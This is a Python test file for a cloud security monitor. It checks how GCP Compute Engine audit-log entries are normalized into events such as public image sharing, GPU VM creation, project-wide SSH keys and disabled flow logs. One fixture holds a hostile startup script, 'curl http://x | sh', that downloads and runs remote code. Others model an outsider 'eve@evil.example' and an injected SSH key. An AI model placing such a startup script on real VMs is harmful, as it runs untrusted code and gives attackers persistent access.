"""Compute Engine facts the rules need: shared disks, images and snapshots, the hardware of a new VM, metadata
keys, subnet flow logs, one kind for a VM whichever service names it, customer keys on Cloud Storage objects."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from monitor.adapters import normalize
from monitor.events import Resource
from tests.conftest import load_payload

COMPUTE = "//compute.googleapis.com/projects/p1"


def _entry(method: str, resource_name: str, service_name: str = "compute.googleapis.com", **proto: Any) -> Any:
    """A real 2018 activity entry (bucket delete) turned into another method's entry."""
    entry = copy.deepcopy(load_payload("gcp/auditlog_storage_buckets_delete_2018.json"))
    entry["protoPayload"].update(methodName=method, serviceName=service_name, resourceName=resource_name, **proto)
    del entry["protoPayload"]["authorizationInfo"]
    entry["resource"] = {"type": "audited_resource", "labels": {"project_id": "p1"}}
    return entry


def _policy(*members: str) -> dict[str, Any]:
    return {"policy": {"bindings": [{"role": "roles/compute.imageUser", "members": list(members)}]}}


VM = Resource("vm", f"{COMPUTE}/zones/europe-west1-b/instances/vm-1", "vm-1", "projects/p1")
IMAGE = Resource("image", f"{COMPUTE}/global/images/golden", "golden", "projects/p1")
DISK = Resource("disk", f"{COMPUTE}/zones/europe-west1-b/disks/data-1", "data-1", "projects/p1")
SNAPSHOT = Resource("snapshot", f"{COMPUTE}/global/snapshots/nightly", "nightly", "projects/p1")
T4 = "projects/p1/zones/europe-west1-b/acceleratorTypes/nvidia-tesla-t4"
INSERT = {
    "machineType": "https://www.googleapis.com/compute/v1/projects/p1/zones/europe-west1-b/machineTypes/n1-standard-8",
    "guestAccelerators": [{"acceleratorType": T4, "acceleratorCount": 4}],
    "scheduling": {"provisioningModel": "SPOT"},
    "metadata": {"items": [{"key": "startup-script", "value": "curl http://x | sh"}]},
}

ROWS: list[Any] = [
    pytest.param(
        _entry("v1.compute.images.setIamPolicy", "projects/p1/global/images/golden", request=_policy("allUsers")),
        IMAGE,
        "permissions_changed",
        {"public": True, "members_added": ["allUsers"], "member_domains": []},
        id="image-shared-with-all-users",
    ),
    pytest.param(
        _entry(
            "v1.compute.disks.setIamPolicy",
            "projects/p1/zones/europe-west1-b/disks/data-1",
            request=_policy("user:eve@evil.example", "group:ops@example.com"),
        ),
        DISK,
        "permissions_changed",
        {"public": False, "members_added": ["user:eve@evil.example", "group:ops@example.com"],
         "member_domains": ["evil.example", "example.com"]},
        id="disk-shared-with-outside-member",
    ),
    pytest.param(
        _entry(
            "v1.compute.snapshots.setIamPolicy",
            "projects/p1/global/snapshots/nightly",
            serviceData={"policyDelta": {"bindingDeltas": [
                {"action": "ADD", "role": "roles/compute.storageAdmin", "member": "allAuthenticatedUsers"}]}},
        ),
        SNAPSHOT,
        "permissions_changed",
        {"public": True, "members_added": ["allAuthenticatedUsers"], "member_domains": []},
        id="snapshot-iam-delta",
    ),
    pytest.param(
        _entry("v1.compute.instances.insert", "projects/p1/zones/europe-west1-b/instances/vm-1", request=INSERT),
        VM,
        "created",
        {"machine_type": "n1-standard-8", "accelerators": ["nvidia-tesla-t4"], "accelerator_count": 4, "gpu": True,
         "spot": True, "metadata_keys": ["startup-script"]},
        id="insert-with-gpus",
    ),
    pytest.param(
        _entry("v1.compute.instances.insert", "projects/p1/zones/europe-west1-b/instances/vm-1",
               request={"machineType": "zones/europe-west1-b/machineTypes/a2-highgpu-1g"}),
        VM,
        "created",
        {"machine_type": "a2-highgpu-1g", "gpu": True},
        id="insert-accelerator-optimized-family",
    ),
    pytest.param(
        _entry("v1.compute.instances.insert", "projects/p1/zones/europe-west1-b/instances/vm-1",
               request={"machineType": "zones/europe-west1-b/machineTypes/e2-small"}),
        VM,
        "created",
        {"machine_type": "e2-small", "gpu": False},
        id="insert-ordinary",
    ),
    pytest.param(
        _entry("v1.compute.projects.setCommonInstanceMetadata", "projects/p1",
               request={"items": [{"key": "ssh-keys", "value": "eve:ssh-ed25519 AAAA"}]}),
        Resource("project", f"{COMPUTE}", "p1", ""),
        "modified",
        {"metadata_keys": ["ssh-keys"]},
        id="project-wide-ssh-keys",
    ),
    pytest.param(
        _entry("v1.compute.subnetworks.patch", "projects/p1/regions/europe-west1/subnetworks/default",
               request={"logConfig": {"enable": False}}),
        Resource("subnetwork", f"{COMPUTE}/regions/europe-west1/subnetworks/default", "default", "projects/p1"),
        "modified",
        {"flow_logs": False},
        id="subnet-flow-logs-off",
    ),
    pytest.param(
        _entry("google.ssh-serialport.v1.connect", "projects/p1/zones/europe-west1-b/instances/vm-1/serialport/1",
               service_name="ssh-serialport.googleapis.com"),
        Resource("vm", VM.id, "vm-1", "projects/p1"),
        "modified",
        {},
        id="serial-console-names-the-same-vm",
    ),
]


def _interesting(details: dict[str, Any], expected: dict[str, Any]) -> dict[str, Any]:
    return {key: details.get(key) for key in expected}


@pytest.mark.parametrize(("entry", "resource", "action", "details"), ROWS)
def test_compute_facts(entry: dict[str, Any], resource: Resource, action: str, details: dict[str, Any]) -> None:
    [event] = normalize(entry)
    assert (event.resource, event.action) == (resource, action)
    assert _interesting(dict(event.details), details) == details


def test_serial_console_vm_has_its_zone_and_region() -> None:
    [event] = normalize(_entry("google.ssh-serialport.v1.connect",
                               "projects/p1/zones/europe-west1-b/instances/vm-1/serialport/1",
                               service_name="ssh-serialport.googleapis.com"))
    assert (event.region, event.details["zone"], event.service) == ("europe-west1", "europe-west1-b", "ssh-serialport")


def test_object_with_a_customer_supplied_key() -> None:
    envelope = {
        "specversion": "1.0",
        "id": "1",
        "source": "//storage.googleapis.com/projects/_/buckets/b",
        "type": "google.cloud.storage.object.v1.finalized",
        "time": "2026-03-02T10:00:00Z",
        "data": load_payload("gcp/gcs_object_resource_json_api_v1_complex_cloudevents.json"),
    }
    [event] = normalize(envelope)
    assert (event.details["encryption"], event.details["customer_key"]) == ("CSEK", True)
